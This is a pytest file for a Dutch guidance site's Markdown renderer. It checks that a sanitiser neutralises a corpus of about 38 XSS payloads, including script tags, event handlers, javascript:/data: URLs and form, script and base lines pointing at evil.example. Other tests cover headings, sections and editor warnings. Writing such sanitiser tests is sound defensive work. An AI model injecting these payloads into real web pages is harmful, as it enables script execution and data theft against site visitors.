"""One sanitiser for every piece of Markdown: what survives, what never does."""

from html.parser import HTMLParser

import pytest

from handreiking.markdown import content_warnings, render_chapter, render_markdown, sanitize

XSS_CORPUS = [
    "<script>alert(1)</script>",
    "<SCRIPT SRC=//evil.example/x.js></SCRIPT>",
    '<img src=x onerror="alert(1)">',
    "<img src=x onerror=alert(1)//",
    "<svg onload=alert(1)>",
    "<svg><script>alert(1)</script></svg>",
    "<body onload=alert(1)>",
    '<iframe src="javascript:alert(1)"></iframe>',
    '<iframe srcdoc="<script>alert(1)</script>"></iframe>',
    '<object data="javascript:alert(1)"></object>',
    '<embed src="javascript:alert(1)">',
    '<a href="javascript:alert(1)">klik</a>',
    '<a href="JaVaScRiPt:alert(1)">klik</a>',
    '<a href="&#106;avascript:alert(1)">klik</a>',
    '<a href="  javascript:alert(1)">klik</a>',
    '<a href="data:text/html;base64,PHNjcmlwdD5hbGVydCgxKTwvc2NyaXB0Pg==">klik</a>',
    '<a href="vbscript:msgbox(1)">klik</a>',
    "[klik](javascript:alert(1))",
    "[klik](JAVASCRIPT:alert(1))",
    "![plaatje](javascript:alert(1))",
    '![x](x" onerror="alert(1))',
    "[x](data:text/html,<script>alert(1)</script>)",
    '<form action="https://evil.example"><input name=q><button>Stuur</button></form>',
    '<div style="background:url(javascript:alert(1))">x</div>',
    '<p style="position:fixed;top:0">x</p>',
    "<style>body{display:none}</style>",
    '<link rel="stylesheet" href="https://evil.example/x.css">',
    '<meta http-equiv="refresh" content="0;url=javascript:alert(1)">',
    '<base href="https://evil.example/">',
    "<math><mtext><table><mglyph><style><img src=x onerror=alert(1)>",
    '<details open ontoggle="alert(1)">x</details>',
    '<input autofocus onfocus="alert(1)">',
    '<video><source onerror="alert(1)"></video>',
    "<!--<img src=x onerror=alert(1)>-->",
    '<a href="#" onclick="alert(1)">x</a>',
    '<h2 onmouseover="alert(1)">kop</h2>',
    '<noscript><p title="</noscript><img src=x onerror=alert(1)>"></noscript>',
    "<template><script>alert(1)</script></template>",
]

ACTIVE_TAGS = {
    "script", "iframe", "object", "embed", "form", "input", "button", "style", "link", "meta",
    "base", "svg", "math", "template", "noscript", "video", "audio", "source", "body", "details",
}  # fmt: skip


class ActiveContentFinder(HTMLParser):
    """Collects what a browser would act on: dangerous tags, handlers, script URLs, styles."""

    def __init__(self):
        super().__init__()
        self.found: list[str] = []

    def handle_starttag(self, tag, attrs):
        if tag in ACTIVE_TAGS:
            self.found.append(f"<{tag}>")
        for name, value in attrs:
            if name.startswith("on") or name in {"style", "srcdoc", "formaction"}:
                self.found.append(f"{tag}[{name}]")
            if name in {"href", "src", "action", "data"} and value:
                scheme = "".join(value.split()).lower().split(":", 1)[0]
                if ":" in value and scheme in {"javascript", "vbscript", "data"}:
                    self.found.append(f"{tag}[{name}={value}]")


def active_content(html: str) -> list[str]:
    finder = ActiveContentFinder()
    finder.feed(html)
    return finder.found


@pytest.mark.parametrize("payload", XSS_CORPUS)
def test_xss_payload_leaves_nothing_active(payload):
    for html in (render_markdown(payload), render_chapter(payload).html, sanitize(payload)):
        assert active_content(html) == [], (payload, html)


def test_active_content_finder_sees_an_attack():
    assert active_content('<a href="javascript:x">a</a><img onerror=x><script></script>')


def test_sanitize_keeps_ordinary_formatting():
    html = render_markdown(
        "Tekst met **vet**, *schuin* en [een link](https://www.rijksoverheid.nl).\n\n"
        "- een\n- twee\n\n1. eerste\n2. tweede\n\n> citaat\n\n"
        "| kop | kop2 |\n|---|---|\n| a | b |\n\n![Logo van iets](/static/img/favicon.svg)"
    )
    assert "<strong>vet</strong>" in html
    assert "<em>schuin</em>" in html
    assert 'href="https://www.rijksoverheid.nl"' in html
    assert 'rel="noopener noreferrer"' in html
    assert "<li>een</li>" in html
    assert "<ol>" in html
    assert "<blockquote>" in html
    assert "<table>" in html
    assert 'alt="Logo van iets"' in html


def test_headings_get_stable_unique_ids_and_section_links():
    rendered = render_chapter(
        "Inleiding.\n\n## Eerste deel\n\nTekst.\n\n### Onderdeel\n\nMeer.\n\n## Eerste deel\n\nNog."
    )
    assert rendered.toc == [
        {"level": 2, "id": "eerste-deel", "title": "Eerste deel"},
        {"level": 3, "id": "onderdeel", "title": "Onderdeel"},
        {"level": 2, "id": "eerste-deel-2", "title": "Eerste deel"},
    ]
    assert '<h2 id="eerste-deel">Eerste deel</h2>' in rendered.html
    assert '<a class="section-link" href="#eerste-deel">' in rendered.html
    assert '<h3 id="onderdeel">' in rendered.html


def test_heading_level_one_becomes_level_two_and_reserved_ids_are_avoided():
    rendered = render_chapter("# Inhoud\n\nTekst.")
    assert "<h1" not in rendered.html
    assert '<h2 id="inhoud-1">Inhoud</h2>' in rendered.html


def test_heading_text_is_escaped_in_section_link():
    rendered = render_chapter('## A &lt;b&gt; & "c"\n\nTekst.')
    assert "<b>" not in rendered.html
    assert rendered.toc[0]["title"] == 'A <b> & "c"'


def test_sections_split_text_per_heading():
    rendered = render_chapter("Intro hier.\n\n## Deel\n\n- punt een\n- punt twee", title="T")
    assert rendered.sections == [
        {"id": "", "level": 1, "title": "T", "text": "Intro hier."},
        {"id": "deel", "level": 2, "title": "Deel", "text": "punt een punt twee"},
    ]


def test_nul_bytes_are_dropped():
    assert "\x00" not in render_markdown("a\x00b")


@pytest.mark.parametrize(
    ("text", "expected"),
    [
        ("Lees [hier](#).", "wijst nog nergens naar (#)"),
        ("Lees [de code]().", "wijst nog nergens naar (leeg)"),
        ("Zie [hoofdstuk](/handreiking/bestaat-niet/).", "hoofdstuk dat niet bestaat"),
        ("## Een\n\n#### Vier", "slaat een niveau over (van 2 naar 4)"),
        ("# Titel", "heeft niveau 1"),
        ("![](/static/img/favicon.svg)", "geen alternatieve tekst"),
        ("Lees [hier](https://example.org).", "zegt niet waar de link heen gaat"),
        (" ".join(["woord"] * 26) + ".", "Lange zin (26 woorden)"),
    ],
)
def test_content_checks_warn_editors(text, expected):
    warnings = content_warnings(text, known_slugs={"bestaat"})
    assert any(expected in warning for warning in warnings), warnings


def test_content_checks_are_quiet_for_good_text():
    text = (
        "Een korte zin. Nog een zin.\n\n## Kop\n\n### Onderkop\n\n"
        "Lees [de gedragscode](https://www.rijksoverheid.nl) en "
        "[hoofdstuk 2](/handreiking/bestaat/#kop).\n\n![Een grafiek](/x.png)"
    )
    assert content_warnings(text, known_slugs={"bestaat"}) == []


def test_seed_placeholder_link_is_flagged():
    from handreiking.content import SEED_FILE
    from handreiking.importer import parse_handreiking

    first = parse_handreiking(SEED_FILE.read_text(encoding="utf-8"))[0]
    assert any("(#)" in warning for warning in content_warnings(first.body))


@pytest.mark.parametrize("opening", ["<style>", "<div>", "<details>", "<script>", "<!--"])
def test_unclosed_raw_html_never_swallows_the_rest_of_the_chapter(opening):
    text = f"Begin.\n\n{opening}\n\n## Daarna\n\nDe rest van het hoofdstuk."
    rendered = render_chapter(text)
    assert "De rest van het hoofdstuk." in rendered.html
    assert [entry["id"] for entry in rendered.toc] == ["daarna"]
    assert "&lt;" in rendered.html


def test_raw_html_gets_a_content_warning_but_code_does_not():
    warnings = content_warnings("Tekst <div>blok</div>\n\n`<b>` in code is prima.")
    assert any("De tekst bevat HTML (<div>)" in warning for warning in warnings)
    assert not any("(<b>)" in warning for warning in warnings)
